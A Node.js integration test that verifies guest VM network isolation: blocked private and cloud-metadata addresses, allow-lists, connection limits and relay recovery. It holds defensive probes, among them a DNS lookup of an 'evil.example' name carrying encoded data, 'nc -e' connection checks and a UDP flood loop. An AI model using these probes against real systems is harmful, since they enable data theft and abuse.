// Guests reach the internet and nothing else: every target that is closed answers to the host itself, and
// not to a guest. A network that ends is told of and started again, also under guests that run.
//
//   node guest_net.mjs BUILD     in the namespaces of guest_net.sh
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import net from 'node:net';
import { Server, Visitor, check, equal, finish, keyMake, root, ssh, until } from './lib.mjs';

const [build] = process.argv.slice(2);
const server = await Server.make(build, (text) => text.replace(/^# \[image tiny[^]*$/m, (images) => images.replace(/^# /gm, '')));
await server.start();
const folder = `${server.dir}/libvirt/net/local`;
const internet = () => server.sql("SELECT internet FROM region_status WHERE region = 'local';");

// ---- what answers to the host ----
const own = net.createServer((socket) => socket.end()).listen(8080, '::');
const OPEN = ['198.51.100.7 80', '198.51.100.7 443', '198.51.100.1 22'];
const CLOSED = ['198.51.100.7 25', '10.9.9.9 80', '100.64.9.9 80', '169.254.169.254 80', '168.63.129.16 80', '172.16.9.9 80', '192.0.0.192 80',
  '192.168.9.9 80', '198.18.9.9 80'];
const HOST = ['198.51.100.2', '203.0.113.9'];
function connects(target) {
  const [host, port] = target.split(' ');
  return new Promise((resolve) => {
    const socket = net.connect({ host, port: Number(port) });
    socket.once('connect', () => { socket.destroy(); resolve(true); });
    socket.once('error', () => resolve(false));
  });
}
for (const target of [...OPEN, ...CLOSED, ...HOST.map((host) => `${host} 8080`)]) {
  check(`the host reaches ${target}`, await until(() => connects(target)));
}

// ---- two guests ----
check('there is a network', await until(() => internet() === '1'));
const alice = new Visitor(server);
await alice.signIn(server.link);
await alice.send('/keys', '/keys', [['key', keyMake(server, 'key')], ['name', 'first']]);
await until(() => server.sql("SELECT count(*) FROM image WHERE name IN ('tiny', 'tiny-dev') AND version IS NOT NULL;") === '2');
const form = (await alice.ask('GET', '/vms/new')).text;
check('the form does not say that there is none', !form.includes('no internet access for VMs'));
async function vmMake(name, image, size) {
  await alice.send('/vms/new', '/vms', [['name', name], ['image', image], ['size', size], ['region', 'local'], ['key', server.sql('SELECT id FROM ssh_key;')]]);
  check(`${name} runs`, await until(() => server.sql(`SELECT state FROM vm WHERE name = '${name}' AND observed = 'running';`) === 'running'));
  const [port, key] = server.sql(`SELECT ssh_port, host_key_public FROM vm WHERE name = '${name}';`).split('|');
  return { name, port, known: `[localhost]:${port} ${key}`, command: `ssh -p ${port} dev@localhost` };
}
const oak = await vmMake('oak', 'tiny', 'nano');
const elm = await vmMake('elm', 'tiny-dev', 'small');
const inside = async (vm, command) => (await ssh(server, vm.command, vm.known, command)).out;
const addressOf = (vm) => inside(vm, "ip addr show dev eth1 | sed -n 's/^ *inet \\([0-9.]*\\).*/\\1/p'");
check('each has an address', await until(async () => /^10\.77\./.test(await addressOf(oak)) && /^10\.77\./.test(await addressOf(elm))));
const elmAddress = await addressOf(elm);

// Which of the targets accept a connection from inside.
async function reached(vm, targets) {
  const lines = targets.map((target) => `(nc -w 3 ${target} -e /bin/true >/dev/null 2>&1 && echo ${target}) &`);
  return (await inside(vm, `${lines.join('\n')}\nwait`)).split('\n').filter(Boolean).sort();
}
const FETCH = 'wget -q -O - http://git.example/';
equal('content comes', await inside(oak, FETCH), 'from the internet');
check('names are found', (await inside(oak, 'nslookup -type=a git.example')).includes('Address: 198.51.100.7'));
equal('what is open is reached', (await reached(oak, OPEN)).join(), [...OPEN].sort().join());
equal('what is private, special or for mail is not', (await reached(oak, CLOSED)).join(), '');
const hostTargets = [...HOST, '10.77.0.1', '127.0.0.1', '10.0.2.2'].flatMap((host) => [8080, server.port, Number(oak.port), Number(elm.port)].map((port) => `${host} ${port}`));
equal('the host is not, by any of its addresses', (await reached(oak, hostTargets.filter((target) => !target.startsWith('127.')))).join(), '');
equal('nor is another guest', (await reached(oak, [`${elmAddress} 22`])).join(), '');
check('which does not answer to a ping either', (await inside(oak, `ping -c 2 -W 2 ${elmAddress} >/dev/null 2>&1 && echo answered`)) === '');
equal('the own SSH answers, as a control', (await reached(oak, [`${await addressOf(oak)} 22`])).length, 1);
equal('other resolvers than the own one are not needed', await inside(oak, 'grep -c nameserver /etc/resolv.conf'), '1');
equal('IPv6 leads nowhere', await inside(oak, 'for to in 2001:db8::1 2001:db8::2 ff02::1%eth1; do ping -6 -c 1 -W 2 $to 2>/dev/null | grep -q "from 2001" && echo $to; done; true'), '');

// ---- the image with tools: git over the network, bash, files over SSH ----
equal('git clone works', await inside(elm, 'git clone --quiet http://git.example/tree.git && cat tree/file'), 'a line of the tree');
equal('and a commit', await inside(elm, 'cd tree && echo more >>file && git -c user.name=a -c user.email=a@git.example commit --quiet -am second && git log --format=%s'), 'second\nfirst');
equal('TLS has authorities', await inside(elm, 'git ls-remote https://git.example/tree.git 2>&1 | grep -c "authorities\\|certificate file"'), '0');
await inside(elm, 'for i in $(seq 900); do echo x >/dev/udp/198.51.100.7/$((2000 + i)); done 2>/dev/null');
check('who begins too many connections is known', await until(() => server.sql("SELECT group_concat(name) FROM vm WHERE limited_at IS NOT NULL;") === 'elm'));
check('and the admin is told', (await alice.ask('GET', '/operator/vms?state=loaded')).text.includes('Over the connection limit'));
equal('the shell is bash', await inside(elm, 'echo "${BASH_VERSION%%.*}"'), '5');
fs.writeFileSync(`${server.tmp}/up`, 'over SFTP\n');
fs.writeFileSync(`${server.tmp}/elm`, `${elm.known}\n`);
execFileSync('scp', ['-s', '-q', '-F', 'none', '-i', `${server.tmp}/key`, '-o', 'BatchMode=yes', '-o', `UserKnownHostsFile=${server.tmp}/elm`, '-P', elm.port, `${server.tmp}/up`, 'dev@localhost:up']);
equal('a file comes over SFTP', await inside(elm, 'cat up'), 'over SFTP');

// ---- what each may reach: some names, nothing, all ----
const idOf = (vm) => server.sql(`SELECT id FROM vm WHERE name = '${vm.name}';`);
async function allow(vm, mode, names = '') {
  const { status } = await alice.send(`/vms/${idOf(vm)}/settings`, `/vms/${idOf(vm)}/internet`, [['internet', mode], ['internet_names', names]]);
  equal(`${mode} is taken`, status, 303);
  check(`${mode} is in effect`, await until(() => server.sql(`SELECT internet_pending FROM vm WHERE name = '${vm.name}'`) === '0'));
}
const fetched = (vm, host) => inside(vm, `timeout 6 wget -q -O - http://${host}/`);
const answer = (vm, name, type = 'a') => inside(vm, `nslookup -type=${type} ${name} 2>&1 | sed -n '/^Name/,$p'`);
// A connection that is open already: what is sent when there is a file "go" has no answer.
const kept = inside(oak, 'cd; mkfifo pipe; nc 198.51.100.7 443 <pipe >got & exec 3>pipe; until [ -e go ]; do sleep 1; done; echo >&3; sleep 4; cat got; kill %1');
check('a connection is open', await until(async () => (await inside(oak, 'grep -c ":01BB 01" /proc/net/tcp')) === '1'));
// Names asked for over one flow, which begins before the change.
const asking = inside(elm, `cd; exec 3<>/dev/udp/10.77.0.1/53; until [ -e over ]; do
  printf '\\1\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\3git\\7example\\0\\0\\1\\0\\1' >&3
  [ "$(timeout 1 dd bs=512 count=1 <&3 2>/dev/null | wc -c)" = 0 ] || echo >>answers; done`);
const answers = async () => Number(await inside(elm, 'cat answers 2>/dev/null | wc -l'));
check('a flow has answers', await until(async () => (await answers()) > 0));
await allow(elm, 'off');
await inside(elm, 'sleep 2');
const before = await answers();
await inside(elm, 'sleep 4');
equal('it has none once it is off', await answers(), before);
await inside(elm, 'touch over');
await asking;
await allow(elm, 'on');
await allow(oak, 'names', 'git.example, https://alias.example/path');
await inside(oak, 'touch go');
equal('what was open has no answer', await kept, '');
equal('a listed name is reached', await fetched(oak, 'git.example'), 'from the internet');
equal('and one below it', await fetched(oak, 'www.git.example'), 'from the internet');
equal('by its addresses too, once it was asked for', (await reached(oak, ['198.51.100.7 80', '198.51.100.7 25'])).join(), '198.51.100.7 80');
equal('another address is not', (await reached(oak, ['198.51.100.8 80', '198.51.100.1 22', ...CLOSED])).join(), '');
equal('one that ends like a listed name is not found', await answer(oak, 'evilgit.example'), '');
equal('nor is one that a listed name leads to, by itself', await answer(oak, 'cdn.example'), '');
equal('a listed name that leads to it is reached', await fetched(oak, 'alias.example'), 'from the internet');
equal('no other resolver answers', await inside(oak, 'nslookup -type=a git.example 198.51.100.1 >/dev/null 2>&1 && echo answered'), '');
equal("nor does another guest's", await inside(elm, 'nslookup -type=a git.example 10.77.0.1:20002 >/dev/null 2>&1 && echo answered'), '');
equal('no name carries data to others', await answer(oak, 'c2VjcmV0.evil.example', 'txt'), '');
equal('the other guest is as it was', await fetched(elm, 'evilgit.example'), 'from the internet');
await allow(oak, 'names', 'inside.example');
equal('the former list is over', (await reached(oak, ['198.51.100.7 80', '198.51.100.8 80'])).join(), '');
equal('a name that leads to a private network leads nowhere', (await reached(oak, ['192.168.9.9 80'])).join() + (await fetched(oak, 'inside.example')), '');
for (const bad of ['198.51.100.7', 'localhost', '', 'git.example#53']) {
  equal(`"${bad}" is refused`, (await alice.send(`/vms/${idOf(oak)}/settings`, `/vms/${idOf(oak)}/internet`, [['internet', 'names'], ['internet_names', bad]])).status, 422);
}
await allow(oak, 'off');
equal('off is off', (await reached(oak, [...OPEN, ...CLOSED])).join(), '');
equal('names too', await answer(oak, 'git.example'), '');
equal('SSH stays', await inside(oak, 'echo here'), 'here');
await alice.send(`/vms/${idOf(oak)}`, `/vms/${idOf(oak)}/restart`, []);
check('it is started again', await until(async () => server.sql("SELECT state FROM vm WHERE name = 'oak'") === 'running' && (await inside(oak, 'cut -d. -f1 /proc/uptime')) < 30));
equal('it is off after a start', (await reached(oak, OPEN)).join(), '');
await allow(oak, 'on');
check('on is on', await until(async () => (await fetched(oak, 'git.example')) === 'from the internet'));
// ---- an address that the host gets later ----
execFileSync('ip', ['address', 'add', '203.0.113.10/32', 'dev', 'lo']);
check('the host reaches it', await until(() => connects('203.0.113.10 8080')));
check('the guard learns of it', await until(() => execFileSync('nsenter', ['-t', String(server.pidsOf('guest_relay')[0]), '-U', '-n',
  'nft', 'list', 'set', 'inet', 'domicile_guard', 'own'], { encoding: 'utf8' }).includes('203.0.113.10')));
equal('a guest does not', (await reached(oak, ['203.0.113.10 8080'])).join(), '');

// ---- the isolation promises ----
function admin(...words) {
  try {
    return execFileSync(`${root}/cgi/admin.sh`, [server.dir, ...words], { encoding: 'utf8' });
  } catch (e) {
    return String(e.stdout); // its status says that something is wrong
  }
}
const row = (id) => admin('--json', 'promises', '--now').trim().split('\n').map(JSON.parse).find((one) => one.id === id);
equal('guests are apart', row('isolation').state, 'green');
server.sql("UPDATE promise SET checked_at = 1 WHERE id = 'isolation-probe';");
for (const pid of server.pidsOf('worker')) process.kill(pid, 'SIGTERM');
check('the probe is measured', await until(() => row('isolation-probe').checked_at > '1971'));
const probe = row('isolation-probe');
equal('it reaches nothing that it must not', `${probe.state} ${probe.figure}`, 'green 0');
check('by either network', /0 of 6 at other VMs, 0 of \d+ at this server, 0 of 6 at cloud metadata/.test(probe.evidence), probe.evidence);

// ---- it outlives the control plane, and the next start finds it ----
const relay = server.pidsOf('guest_relay')[0];
await server.stop();
equal('content comes without a control plane', await inside(oak, FETCH), 'from the internet');
await server.start();
check('the check says so', admin('check').includes('ok   region local: guests reach the internet'));
check('it is the same network', await until(() => internet() === '1') && server.pidsOf('guest_relay')[0] === relay);

// ---- killed, it is told of and started again, and guests have it at once ----
const kill = () => server.pidsOf('guest_relay').forEach((pid) => process.kill(pid, 'SIGKILL'));
check('its end is seen', await until(() => {
  kill();
  return internet() === '0';
}));
check('the form says so', (await alice.ask('GET', '/vms/new')).text.includes('no internet access for VMs'));
check('so does the check', await until(() => {
  kill();
  return admin('check').includes('FAIL region local: guests have no internet: a part of their network has ended (status 137)');
}));
equal('SSH goes on', await inside(oak, 'echo here'), 'here');
// What starts its parts is killed: they end with it.
check('there is one again', await until(() => internet() === '1'));
const pid = (file) => Number(fs.readFileSync(`${folder}/${file}`, 'utf8'));
const isReplaced = (file) => {
  const former = pid(file);
  process.kill(former, 'SIGKILL');
  return until(() => pid(file) !== former);
};
check('there is a network again', await isReplaced('pid'));
equal('which a guest has at once', await until(() => inside(oak, FETCH)), 'from the internet');
// So is the process that starts the network again.
check('there is another one', await isReplaced('watcher'));
// And the one that sees to that.
const keeper = () => server.processes().find(({ argv }) => argv[1]?.endsWith('/guest_net.sh') && argv[2] === 'keep')?.pid;
const killed = keeper();
process.kill(killed, 'SIGKILL');
check('it is there again', await until(() => keeper() && keeper() !== killed));
equal('a guest does not notice', await inside(oak, FETCH), 'from the internet');
check('it starts the network again', await isReplaced('pid'));
equal('which a guest has at once', await until(() => inside(oak, FETCH)), 'from the internet');

// ---- what a guest did is not of the one that gets its port next ----
const limited = () => execFileSync('nsenter', ['-t', String(server.pidsOf('guest_relay')[0]), '-U', '-n', 'nft', 'list', 'set', 'inet', 'domicile_guard', 'limited'], { encoding: 'utf8' });
const blamed = await addressOf(elm);
check('a guest is over the limit again', await until(async () => {
  await inside(elm, 'for i in $(seq 900); do echo x >/dev/udp/198.51.100.7/$((2000 + i)); done 2>/dev/null');
  return limited().includes(blamed);
}));

// ---- without guests and control plane it ends ----
for (const vm of [oak, elm]) {
  const id = server.sql(`SELECT id FROM vm WHERE name = '${vm.name}';`);
  await alice.send(`/vms/${id}/destroy`, `/vms/${id}/destroy`, [['name', vm.name]]);
}
check('the guests are gone', await until(() => server.sql('SELECT count(*) FROM vm WHERE gone_at IS NULL;') === '0'));
let looks = 25; // it would be forgotten by itself in two minutes
check('nor what it did', await until(() => !limited().includes(blamed) || --looks === 0) && looks > 0);
equal('nothing of them is left there', fs.readdirSync(folder).filter((name) => /^\d+$/.test(name)).join(), '');
const link = server.dir;
await server.stop();
check('it ends by itself', await until(() => server.pidsOf('guest_relay').length === 0), link);
own.close();
await server.end();
finish();
